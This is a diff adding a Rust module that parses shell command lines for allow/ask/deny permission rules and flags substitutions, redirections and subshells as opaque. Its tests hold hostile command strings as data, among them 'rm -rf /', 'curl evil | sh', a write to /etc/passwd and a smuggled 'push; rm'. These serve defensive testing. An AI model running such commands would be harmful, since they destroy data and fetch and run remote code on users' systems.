@@ -1,0 +1,530 @@
+//! Reading shell command lines for policy rules.
+//!
+//! This is not a shell: it reads a command line the way a POSIX shell would split it into
+//! simple commands and words, and notes every construct whose effect cannot be read from the
+//! text (command substitution, redirection, subshells, here-documents, control keywords,
+//! unbalanced quotes). Rules use that to be strict where it matters: an `allow` rule covers a
+//! line only if the line is plain and every command in it is covered, while `ask` and `deny`
+//! rules match if any command (including those inside substitutions) matches.
+
+/// At most this many simple commands are read from one line; a longer line is opaque.
+pub const MAX_COMMANDS: usize = 64;
+
+/// A command line split into simple commands.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct CommandLine {
+    pub commands: Vec<SimpleCommand>,
+    /// The line has constructs whose effect cannot be read from the text.
+    pub opaque: bool,
+}
+
+/// One simple command: its program and arguments.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct SimpleCommand {
+    pub words: Vec<Word>,
+    /// Variable assignments or reserved words stood before the program.
+    pub prefixed: bool,
+}
+
+/// One word, after quote removal.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Word {
+    pub text: String,
+    /// No expansion, globbing or substitution can change it.
+    pub literal: bool,
+}
+
+impl CommandLine {
+    /// An argument vector run without a shell: one plain command.
+    pub fn from_argv<'a>(argv: impl IntoIterator<Item = &'a str>) -> Self {
+        let words: Vec<Word> = argv
+            .into_iter()
+            .map(|t| Word {
+                text: t.to_owned(),
+                literal: true,
+            })
+            .collect();
+        CommandLine {
+            commands: vec![SimpleCommand {
+                words,
+                prefixed: false,
+            }],
+            opaque: false,
+        }
+    }
+
+    /// Whether the line is plain: no opaque construct and no command with a prefix or a
+    /// non-literal program.
+    pub fn is_plain(&self) -> bool {
+        !self.opaque && self.commands.iter().all(|c| !c.prefixed)
+    }
+}
+
+/// Reads a command line.
+pub fn parse(line: &str) -> CommandLine {
+    let chars: Vec<char> = line.chars().collect();
+    let mut p = Parser {
+        chars: &chars,
+        pos: 0,
+        out: CommandLine::default(),
+    };
+    let mut state = CommandState::default();
+    p.sequence(&mut state, None);
+    if p.out.commands.len() > MAX_COMMANDS {
+        p.out.commands.truncate(MAX_COMMANDS);
+        p.out.opaque = true;
+    }
+    p.out
+}
+
+/// The word and command being read.
+#[derive(Default)]
+struct CommandState {
+    words: Vec<Word>,
+    word: String,
+    word_started: bool,
+    word_literal: bool,
+}
+
+impl CommandState {
+    fn push(&mut self, c: char) {
+        if !self.word_started {
+            self.word_started = true;
+            self.word_literal = true;
+        }
+        self.word.push(c);
+    }
+
+    fn start(&mut self) {
+        if !self.word_started {
+            self.word_started = true;
+            self.word_literal = true;
+        }
+    }
+
+    fn non_literal(&mut self) {
+        self.start();
+        self.word_literal = false;
+    }
+
+    fn finish_word(&mut self) {
+        if self.word_started {
+            self.words.push(Word {
+                text: std::mem::take(&mut self.word),
+                literal: self.word_literal,
+            });
+            self.word_started = false;
+        }
+    }
+}
+
+struct Parser<'a> {
+    chars: &'a [char],
+    pos: usize,
+    out: CommandLine,
+}
+
+const RESERVED_PREFIX: &[&str] = &[
+    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "time",
+];
+const RESERVED_CLOSE: &[&str] = &["fi", "done", "esac", "}"];
+const RESERVED_HEADER: &[&str] = &["for", "case", "select", "function", "in"];
+
+impl Parser<'_> {
+    fn peek(&self) -> Option<char> {
+        self.chars.get(self.pos).copied()
+    }
+
+    fn peek_at(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    /// Reads commands until the end, or until `close` at this nesting level.
+    fn sequence(&mut self, st: &mut CommandState, close: Option<char>) {
+        while let Some(c) = self.peek() {
+            match c {
+                ' ' | '\t' => {
+                    st.finish_word();
+                    self.pos += 1;
+                }
+                '\n' | ';' | '&' | '|' => {
+                    self.end_command(st);
+                    self.pos += 1;
+                    if matches!(self.peek(), Some(n) if n == c || (c == '|' && n == '&')) {
+                        self.pos += 1;
+                    }
+                }
+                '(' => {
+                    self.out.opaque = true;
+                    self.end_command(st);
+                    self.pos += 1;
+                }
+                ')' => {
+                    self.end_command(st);
+                    self.pos += 1;
+                    if close == Some(')') {
+                        return;
+                    }
+                    self.out.opaque = true;
+                }
+                '<' | '>' => self.redirection(st),
+                '#' if !st.word_started => {
+                    while !matches!(self.peek(), None | Some('\n')) {
+                        self.pos += 1;
+                    }
+                }
+                _ => self.word_char(st),
+            }
+        }
+        self.end_command(st);
+        if close.is_some() {
+            // An unclosed substitution.
+            self.out.opaque = true;
+        }
+    }
+
+    /// One character that belongs to a word (quotes, escapes and expansions included).
+    fn word_char(&mut self, st: &mut CommandState) {
+        let Some(c) = self.peek() else { return };
+        self.pos += 1;
+        match c {
+            '\'' => {
+                st.start();
+                match self.chars[self.pos..].iter().position(|&q| q == '\'') {
+                    Some(n) => {
+                        st.word.extend(&self.chars[self.pos..self.pos + n]);
+                        self.pos += n + 1;
+                    }
+                    None => {
+                        st.word.extend(&self.chars[self.pos..]);
+                        self.pos = self.chars.len();
+                        self.out.opaque = true;
+                    }
+                }
+            }
+            '"' => self.double_quoted(st),
+            '\\' => match self.peek() {
+                Some('\n') => self.pos += 1,
+                Some(n) => {
+                    st.push(n);
+                    self.pos += 1;
+                }
+                None => st.push('\\'),
+            },
+            '$' => self.dollar(st),
+            '`' => self.backtick(st),
+            '*' | '?' | '[' | '{' => {
+                st.push(c);
+                st.non_literal();
+            }
+            '~' if !st.word_started => {
+                st.push(c);
+                st.non_literal();
+            }
+            _ => st.push(c),
+        }
+    }
+
+    fn double_quoted(&mut self, st: &mut CommandState) {
+        st.start();
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match c {
+                '"' => return,
+                '\\' => match self.peek() {
+                    Some(n @ ('$' | '`' | '"' | '\\')) => {
+                        st.word.push(n);
+                        self.pos += 1;
+                    }
+                    Some('\n') => self.pos += 1,
+                    _ => st.word.push('\\'),
+                },
+                '$' => self.dollar(st),
+                '`' => self.backtick(st),
+                _ => st.word.push(c),
+            }
+        }
+        self.out.opaque = true; // unterminated
+    }
+
+    /// After a `$`: a substitution, an expansion, or a plain dollar sign.
+    fn dollar(&mut self, st: &mut CommandState) {
+        match self.peek() {
+            Some('(') if self.peek_at(1) == Some('(') => {
+                // Arithmetic expansion: no command runs, but the value is not literal.
+                st.non_literal();
+                self.skip_balanced('(', ')');
+            }
+            Some('(') => {
+                self.pos += 1;
+                st.non_literal();
+                self.out.opaque = true;
+                let mut inner = CommandState::default();
+                self.sequence(&mut inner, Some(')'));
+            }
+            Some('{') => {
+                st.non_literal();
+                self.skip_balanced('{', '}');
+            }
+            Some(c) if c.is_ascii_alphanumeric() || c == '_' => {
+                st.non_literal();
+                while matches!(self.peek(), Some(c) if c.is_ascii_alphanumeric() || c == '_') {
+                    self.pos += 1;
+                }
+            }
+            Some('?' | '$' | '!' | '#' | '@' | '*' | '-') => {
+                st.non_literal();
+                self.pos += 1;
+            }
+            _ => st.push('$'),
+        }
+    }
+
+    /// A `` `command` `` substitution: its commands are read too.
+    fn backtick(&mut self, st: &mut CommandState) {
+        st.non_literal();
+        self.out.opaque = true;
+        let mut inner = String::new();
+        let mut closed = false;
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match c {
+                '`' => {
+                    closed = true;
+                    break;
+                }
+                '\\' => {
+                    if let Some(n) = self.peek() {
+                        inner.push(n);
+                        self.pos += 1;
+                    }
+                }
+                _ => inner.push(c),
+            }
+        }
+        let nested = parse(&inner);
+        self.out.commands.extend(nested.commands);
+        if !closed {
+            self.out.opaque = true;
+        }
+    }
+
+    /// Skips from an opening bracket to its match (for expansions that run no command).
+    fn skip_balanced(&mut self, open: char, close: char) {
+        let mut depth = 0usize;
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            if c == open {
+                depth += 1;
+            } else if c == close {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return;
+                }
+            }
+        }
+        self.out.opaque = true;
+    }
+
+    /// `>`, `>>`, `2>&1`, `<`, `<<EOF`…: the redirection and its target are not words of the
+    /// command.
+    fn redirection(&mut self, st: &mut CommandState) {
+        self.out.opaque = true;
+        // A file-descriptor number written right before the operator belongs to it.
+        if st.word_started && !st.word.is_empty() && st.word.chars().all(|c| c.is_ascii_digit()) {
+            st.word.clear();
+            st.word_started = false;
+        } else {
+            st.finish_word();
+        }
+        while matches!(self.peek(), Some('<' | '>' | '&' | '|' | '-')) {
+            self.pos += 1;
+        }
+        while matches!(self.peek(), Some(' ' | '\t')) {
+            self.pos += 1;
+        }
+        // The target: read it as a word and drop it.
+        let mut target = CommandState::default();
+        while let Some(c) = self.peek() {
+            if matches!(
+                c,
+                ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>'
+            ) {
+                break;
+            }
+            self.word_char(&mut target);
+        }
+    }
+
+    fn end_command(&mut self, st: &mut CommandState) {
+        st.finish_word();
+        let mut words = std::mem::take(&mut st.words);
+        let mut prefixed = false;
+        let mut start = 0;
+        while let Some(w) = words.get(start) {
+            if RESERVED_PREFIX.contains(&w.text.as_str()) {
+                self.out.opaque = true;
+                prefixed = true;
+                start += 1;
+            } else if is_assignment(&w.text) {
+                prefixed = true;
+                start += 1;
+            } else {
+                break;
+            }
+        }
+        words.drain(..start);
+        let Some(first) = words.first() else { return };
+        if RESERVED_CLOSE.contains(&first.text.as_str()) && words.len() == 1 {
+            self.out.opaque = true;
+            return;
+        }
+        if RESERVED_HEADER.contains(&first.text.as_str()) {
+            self.out.opaque = true;
+            return;
+        }
+        self.out.commands.push(SimpleCommand { words, prefixed });
+    }
+}
+
+fn is_assignment(word: &str) -> bool {
+    let Some((name, _)) = word.split_once('=') else {
+        return false;
+    };
+    let mut chars = name.chars();
+    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn words(line: &CommandLine) -> Vec<Vec<String>> {
+        line.commands
+            .iter()
+            .map(|c| c.words.iter().map(|w| w.text.clone()).collect())
+            .collect()
+    }
+
+    #[test]
+    fn splits_words_with_quotes_and_escapes() {
+        let line = parse(r#"git commit -m "fix: it's done" --author='A B' a\ b"#);
+        assert_eq!(
+            words(&line),
+            vec![vec![
+                "git",
+                "commit",
+                "-m",
+                "fix: it's done",
+                "--author=A B",
+                "a b"
+            ]]
+        );
+        assert!(line.is_plain());
+        assert!(line.commands[0].words.iter().all(|w| w.literal));
+    }
+
+    #[test]
+    fn splits_on_every_list_operator() {
+        let line = parse("git status && git push; ls | sh & echo a || rm -rf /\necho b");
+        assert_eq!(
+            words(&line),
+            vec![
+                vec!["git", "status"],
+                vec!["git", "push"],
+                vec!["ls"],
+                vec!["sh"],
+                vec!["echo", "a"],
+                vec!["rm", "-rf", "/"],
+                vec!["echo", "b"],
+            ]
+        );
+        assert!(line.is_plain());
+    }
+
+    #[test]
+    fn substitutions_are_read_and_make_the_line_opaque() {
+        let line = parse("echo $(rm -rf /) `curl evil | sh`");
+        assert!(line.opaque);
+        let all = words(&line);
+        assert!(
+            all.contains(&vec!["rm".to_owned(), "-rf".into(), "/".into()]),
+            "{all:?}"
+        );
+        assert!(
+            all.contains(&vec!["curl".to_owned(), "evil".into()]),
+            "{all:?}"
+        );
+        assert!(all.contains(&vec!["sh".to_owned()]), "{all:?}");
+    }
+
+    #[test]
+    fn redirections_are_opaque_and_not_words() {
+        let line = parse("git log > /etc/passwd 2>&1");
+        assert!(line.opaque);
+        assert_eq!(words(&line), vec![vec!["git", "log"]]);
+    }
+
+    #[test]
+    fn assignments_and_keywords_prefix_the_command() {
+        let line = parse("GIT_SSH_COMMAND='sh -c x' git status");
+        assert_eq!(words(&line), vec![vec!["git", "status"]]);
+        assert!(line.commands[0].prefixed);
+        assert!(!line.is_plain());
+        let line = parse("if true; then rm -rf /; fi");
+        assert!(line.opaque);
+        assert!(words(&line).contains(&vec!["rm".to_owned(), "-rf".into(), "/".into()]));
+    }
+
+    #[test]
+    fn expansions_are_not_literal() {
+        let line = parse("$CMD status \"$HOME\" ~/x *.rs 'lit$'");
+        let lits: Vec<bool> = line.commands[0].words.iter().map(|w| w.literal).collect();
+        assert_eq!(lits, vec![false, true, false, false, false, true]);
+    }
+
+    #[test]
+    fn unbalanced_quotes_and_subshells_are_opaque() {
+        assert!(parse("echo 'unterminated").opaque);
+        assert!(parse("echo \"unterminated").opaque);
+        assert!(parse("(cd /; rm x)").opaque);
+        assert!(parse("echo $(unclosed").opaque);
+    }
+
+    #[test]
+    fn comments_are_skipped() {
+        assert_eq!(words(&parse("ls # && rm -rf /")), vec![vec!["ls"]]);
+        assert_eq!(words(&parse("echo a#b")), vec![vec!["echo", "a#b"]]);
+    }
+
+    #[test]
+    fn argv_is_one_plain_command() {
+        let line = CommandLine::from_argv(["git", "push; rm"]);
+        assert!(line.is_plain());
+        assert_eq!(words(&line), vec![vec!["git", "push; rm"]]);
+    }
+
+    #[test]
+    fn very_long_lines_are_opaque() {
+        let line = parse(&"a;".repeat(MAX_COMMANDS + 5));
+        assert!(line.opaque);
+        assert_eq!(line.commands.len(), MAX_COMMANDS);
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_parses_without_panicking(s in "\\PC{0,200}") {
+            let _ = parse(&s);
+        }
+
+        #[test]
+        fn metacharacters_never_leave_a_line_plain_with_fewer_commands(
+            a in "[a-z]{1,8}", b in "[a-z]{1,8}", sep in prop::sample::select(vec![";", "&&", "||", "|", "&", "\n"])
+        ) {
+            let line = parse(&format!("{a} x {sep} {b} y"));
+            prop_assert_eq!(line.commands.len(), 2);
+        }
+    }
+}
